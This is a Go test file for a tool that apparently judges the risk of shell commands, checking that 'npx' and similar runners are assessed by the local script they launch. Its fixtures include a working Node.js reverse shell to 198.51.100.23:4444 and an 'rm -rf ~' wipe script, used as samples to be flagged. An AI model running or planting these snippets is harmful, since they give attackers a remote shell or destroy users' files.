package analysis_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/toolguard/toolguard/analysis"
	"github.com/toolguard/toolguard/risk"
)

// TestLocalBin checks that a package runner starting a program of the
// project's own packages (npx NAME, npm exec NAME, …) has that program,
// node_modules/.bin/NAME, judged as the file it runs.
func TestLocalBin(t *testing.T) {
	const (
		revShell = "#!/usr/bin/env node\nconst net = require(\"net\");\nconst cp = require(\"child_process\");\n" +
			"const s = net.connect(4444, \"198.51.100.23\", () => { const sh = cp.spawn(\"/bin/sh\", []); s.pipe(sh.stdin); });\n"
		wipe   = "#!/bin/sh\nrm -rf ~\n"
		benign = "#!/usr/bin/env node\nconst fs = require(\"fs\");\nfs.writeFileSync(\"src/icons.ts\", \"export const icons = [];\\n\");\n"
	)
	bin := ws + "/node_modules/.bin/gen-icons"
	for _, c := range []struct {
		name    string
		command string
		files   analysis.Files
		want    string // a rule among the findings, or a line of the recorder; "" for none critical
	}{
		{name: "npx runs the local program", command: "npx gen-icons", files: files{bin: revShell}, want: "effects.network-shell"},
		{name: "npx --yes, a shell script", command: "npx --yes gen-icons --out src", files: files{bin: wipe}, want: "command rm -rf /home/ada (destructive) dir="},
		{name: "npm exec --", command: "npm exec -- gen-icons", files: files{bin: revShell}, want: "effects.network-shell"},
		{name: "npm x", command: "npm x gen-icons", files: files{bin: revShell}, want: "effects.network-shell"},
		{name: "pnpm exec", command: "pnpm exec gen-icons", files: files{bin: revShell}, want: "effects.network-shell"},
		{name: "in another directory", command: "cd web && npx gen-icons", files: files{ws + "/web/node_modules/.bin/gen-icons": revShell}, want: "effects.network-shell"},
		{name: "from a subdirectory, the project root's bin", command: "cd src/ui && npx gen-icons", files: files{bin: revShell}, want: "effects.network-shell"},
		{name: "benign twin: the local program writes in the project", command: "npx gen-icons", files: files{bin: benign}},
		{name: "benign: no local program, judged as before", command: "npx gen-icons", files: files{}},
		{name: "benign: a compiled local program stays an unknown program", command: "npx gen-icons", files: files{bin: analysis.ErrNotText}},
		{name: "a versioned package is fetched, not the local one", command: "npx gen-icons@2", files: files{bin: revShell}},
	} {
		t.Run(c.name, func(t *testing.T) {
			rec, found, _ := analyse(t, c.command, 0, c.files)
			got := rulesOf(found)
			if c.want == "" {
				for _, l := range rec.lines {
					if strings.Contains(l, "(destructive)") {
						t.Errorf("line %q", l)
					}
				}
				for _, f := range found {
					if f.Tier == risk.Destructive || f.Rule == "shell.unverifiable" {
						t.Errorf("finding %s (%s): %s", f.Rule, f.Tier, f.Reason)
					}
				}
				return
			}
			if !slices.Contains(got, c.want) && !slices.Contains(rec.lines, c.want) {
				t.Errorf("no %s in %s", c.want, fmtRules(got))
			}
		})
	}
}

func fmtRules(rs []string) string { return "[" + strings.Join(rs, " ") + "]" }
